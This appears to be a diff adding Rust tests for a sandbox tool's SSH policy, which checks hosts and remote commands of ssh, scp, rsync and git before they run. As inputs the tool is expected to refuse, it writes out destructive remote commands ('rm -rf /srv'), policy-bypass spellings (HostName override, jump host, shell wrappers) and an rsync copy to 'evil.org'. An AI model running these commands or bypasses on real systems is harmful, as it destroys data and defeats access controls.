@@ -1,0 +1,253 @@
+//! SSH policy (`ssh.*`): hosts and remote commands of `ssh`, `scp`, `rsync` and git ssh
+//! URLs are checked before anything runs; a refused one exits 126. Fake programs on `PATH`
+//! record in the workspace whether they ran.
+
+use std::os::unix::fs::PermissionsExt;
+
+use crate::util::servers::{free_port, wait_for_port};
+use crate::util::{self, Sandbox, User};
+
+/// A sandbox with `bin/NAME` for each name: a script that appends `NAME ARGS` to `ran` in
+/// the workspace. Returns it and the `PATH` to use.
+fn with_fakes(user: User, names: &[&str]) -> (Sandbox, String) {
+    let sb = Sandbox::new(user);
+    let bin = sb.root.join("bin");
+    for name in names {
+        let path = bin.join(name);
+        sb.write(
+            &path,
+            &format!(
+                "#!/bin/sh\necho \"{name} $*\" >> {}\n",
+                sb.ws.join("ran").display()
+            ),
+        );
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let path = format!(
+        "{}:{}",
+        bin.display(),
+        std::env::var("PATH").unwrap_or_else(|_| "/usr/bin:/bin".into())
+    );
+    (sb, path)
+}
+
+fn ran(sb: &Sandbox) -> String {
+    std::fs::read_to_string(sb.ws.join("ran")).unwrap_or_default()
+}
+
+const POLICY: &str = r#"{"filesystem": {"allowWrite": ["."]},
+    "ssh": {"allowedHosts": ["*.example.com", "github.com"], "deniedHosts": ["prod.example.com"],
+        "allowedCommands": ["ls", "uptime"], "deniedCommands": ["rm"]}}"#;
+
+fn allowed_runs_and_denied_host_runs_nothing(user: User) {
+    let (sb, path) = with_fakes(user, &["ssh", "git", "scp"]);
+    let cfg = sb.config("cfg.json", POLICY);
+    let sh = |script: &str| sb.fence().env("PATH", &path).sh(&cfg, script).run();
+    sh("ssh dev.example.com ls -la && ssh -p 2222 dev.example.com uptime").ok();
+    assert_eq!(
+        ran(&sb),
+        "ssh dev.example.com ls -la\nssh -p 2222 dev.example.com uptime\n"
+    );
+    let r = sh("ssh dev.example.com ls; ssh prod.example.com ls");
+    r.code(126);
+    assert_eq!(
+        r.stderr,
+        "fence: refused \"ssh prod.example.com ls\": host \"prod.example.com\" matches \
+         ssh.deniedHosts \"prod.example.com\" (cfg.json)\n",
+        "{r}"
+    );
+    sh("ssh gitlab.com")
+        .code(126)
+        .stderr_has("host \"gitlab.com\" is not in ssh.allowedHosts");
+    // Hostile spellings: a HostName after the destination, a jump host, a wrapper.
+    sh("ssh dev.example.com -oHostName=prod.example.com ls").code(126);
+    sh("ssh -J prod.example.com dev.example.com").code(126);
+    sh("env X=1 sh -c 'ssh prod.example.com'").code(126);
+    sh("ssh \"$TARGET\" ls")
+        .code(126)
+        .stderr_has("is only known when it runs");
+    assert_eq!(
+        ran(&sb).lines().count(),
+        2,
+        "nothing more ran: {}",
+        ran(&sb)
+    );
+}
+
+fn remote_commands(user: User) {
+    let (sb, path) = with_fakes(user, &["ssh"]);
+    let cfg = sb.config("cfg.json", POLICY);
+    let sh = |script: &str| sb.fence().env("PATH", &path).sh(&cfg, script).run();
+    let r = sh("ssh dev.example.com rm -rf /srv");
+    r.code(126);
+    assert_eq!(
+        r.stderr,
+        "fence: refused \"ssh dev.example.com rm -rf /srv\": matches ssh.deniedCommands \
+         \"rm\" (cfg.json)\n",
+        "{r}"
+    );
+    sh("ssh dev.example.com 'ls; sudo rm -rf /srv'").code(126);
+    sh("ssh dev.example.com git log")
+        .code(126)
+        .stderr_has("remote command \"git log\" is not in ssh.allowedCommands");
+    assert_eq!(ran(&sb), "");
+    // The argv form: checked as words.
+    sb.fence()
+        .env("PATH", &path)
+        .args([
+            "-s",
+            cfg.to_str().unwrap(),
+            "--",
+            "ssh",
+            "dev.example.com",
+            "rm",
+            "x",
+        ])
+        .run()
+        .code(126)
+        .stderr_has("matches ssh.deniedCommands \"rm\"");
+    sb.fence()
+        .env("PATH", &path)
+        .args([
+            "-s",
+            cfg.to_str().unwrap(),
+            "--",
+            "ssh",
+            "dev.example.com",
+            "ls",
+        ])
+        .run()
+        .ok();
+    assert_eq!(ran(&sb), "ssh dev.example.com ls\n");
+}
+
+fn git_and_scp_urls(user: User) {
+    let (sb, path) = with_fakes(user, &["git", "scp", "rsync"]);
+    let cfg = sb.config("cfg.json", POLICY);
+    let sh = |script: &str| sb.fence().env("PATH", &path).sh(&cfg, script).run();
+    sh("git clone git@denied.org:x/y.git")
+        .code(126)
+        .stderr_has("host \"denied.org\" is not in ssh.allowedHosts");
+    sh("git -C . fetch ssh://git@prod.example.com/x")
+        .code(126)
+        .stderr_has("matches ssh.deniedHosts \"prod.example.com\"");
+    sh("scp f prod.example.com:/tmp/").code(126);
+    sh("rsync -av . evil.org:x").code(126);
+    assert_eq!(ran(&sb), "");
+    sh("git clone git@github.com:x/y.git && git fetch origin && scp f dev.example.com:").ok();
+    assert_eq!(
+        ran(&sb),
+        "git clone git@github.com:x/y.git\ngit fetch origin\nscp f dev.example.com:\n"
+    );
+}
+
+/// An untrusted project config may add denied hosts and commands (it narrows), not allowed
+/// hosts or commands (grants).
+fn project_config_trust(user: User) {
+    let (sb, path) = with_fakes(user, &["ssh"]);
+    let user_cfg = sb.home.join(".config/fence/fence.json");
+    sb.write(
+        &user_cfg,
+        &format!(
+            r#"{{"filesystem": {{"allowWrite": ["{}"]}}, "ssh": {{"allowAllCommands": true}}}}"#,
+            sb.ws.display()
+        ),
+    );
+    sb.config(
+        "fence.json",
+        r#"{"ssh": {"deniedHosts": ["prod.example.com"]}}"#,
+    );
+    let run = |args: &[&str]| sb.fence().env("PATH", &path).args(args).run();
+    run(&["ssh", "prod.example.com", "ls"])
+        .code(126)
+        .stderr_has("matches ssh.deniedHosts \"prod.example.com\" (fence.json)");
+    run(&["ssh", "dev.example.com", "ls"]).ok();
+    assert_eq!(ran(&sb), "ssh dev.example.com ls\n");
+    sb.config(
+        "fence.json",
+        r#"{"ssh": {"allowedHosts": ["*"], "allowedCommands": ["rm"]}}"#,
+    );
+    run(&["ssh", "dev.example.com", "ls"])
+        .code(125)
+        .stderr_has("not trusted")
+        .stderr_has("ssh.allowedHosts *")
+        .stderr_has("ssh.allowedCommands rm");
+}
+
+/// A real sshd on 127.0.0.1 (root only: privilege separation, logging in as root): an
+/// allowed host and command run there, through fence's SOCKS5 proxy (`ProxyCommand fence
+/// --proxy-connect`); a command not in `allowedCommands` and another host are refused
+/// before anything runs.
+fn real_sshd(user: User) {
+    if !util::is_root() {
+        // sshd needs root (privilege separation, logging in as another user).
+        eprintln!("real sshd: cannot apply: sshd can only be started by root here");
+        return;
+    }
+    let sb = Sandbox::new(user);
+    let keys = sb.root.join("ssh");
+    std::fs::create_dir_all(&keys).unwrap();
+    let run = |cmd: &mut std::process::Command| {
+        let out = util::output(cmd);
+        assert!(out.status.success(), "{cmd:?}: {out:?}");
+    };
+    for name in ["host", "user"] {
+        run(std::process::Command::new("ssh-keygen")
+            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
+            .arg(keys.join(name)));
+    }
+    std::fs::copy(keys.join("user.pub"), keys.join("authorized")).unwrap();
+    // The client runs as the sandbox's user and ssh insists on owning its key.
+    let key = sb.root.join("client-key");
+    sb.write(&key, &std::fs::read_to_string(keys.join("user")).unwrap());
+    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let port = free_port();
+    let k = keys.display();
+    let config = format!(
+        "ListenAddress 127.0.0.1\nPort {port}\nHostKey {k}/host\nAuthorizedKeysFile {k}/authorized\n\
+         PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n\
+         PermitRootLogin prohibit-password\nPidFile {k}/pid\n"
+    );
+    std::fs::write(keys.join("sshd_config"), config).unwrap();
+    std::fs::create_dir_all("/run/sshd").unwrap();
+    let mut sshd = std::process::Command::new("/usr/sbin/sshd")
+        .args(["-D", "-e", "-f"])
+        .arg(keys.join("sshd_config"))
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("sshd is installed (openssh-server)");
+    wait_for_port(port);
+    let cfg = sb.config(
+        "cfg.json",
+        r#"{"network": {"allowedDomains": ["127.0.0.1"]}, "filesystem": {"allowWrite": ["."]},
+            "ssh": {"allowedHosts": ["127.0.0.1"], "allowedCommands": ["echo"]}}"#,
+    );
+    let ssh = format!(
+        "ssh -i {} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+         -o LogLevel=ERROR -o 'ProxyCommand={} --proxy-connect %h %p' -p {port}",
+        key.display(),
+        util::fence_bin().display()
+    );
+    let sh = |script: &str| sb.fence().sh(&cfg, script).run();
+    let allowed = sh(&format!("{ssh} root@127.0.0.1 echo hello-from-sshd"));
+    let refused_cmd = sh(&format!("{ssh} root@127.0.0.1 touch {k}/touched"));
+    let refused_host = sh(&format!("{ssh} root@localhost echo x"));
+    let _ = sshd.kill();
+    let _ = sshd.wait();
+    allowed.ok().stdout_has("hello-from-sshd");
+    refused_cmd
+        .code(126)
+        .stderr_has("is not in ssh.allowedCommands");
+    assert!(!keys.join("touched").exists(), "the refused command ran");
+    refused_host
+        .code(126)
+        .stderr_has("host \"localhost\" is not in ssh.allowedHosts");
+}
+
+both_users!(
+    allowed_runs_and_denied_host_runs_nothing,
+    remote_commands,
+    git_and_scp_urls,
+    project_config_trust,
+    real_sshd,
+);
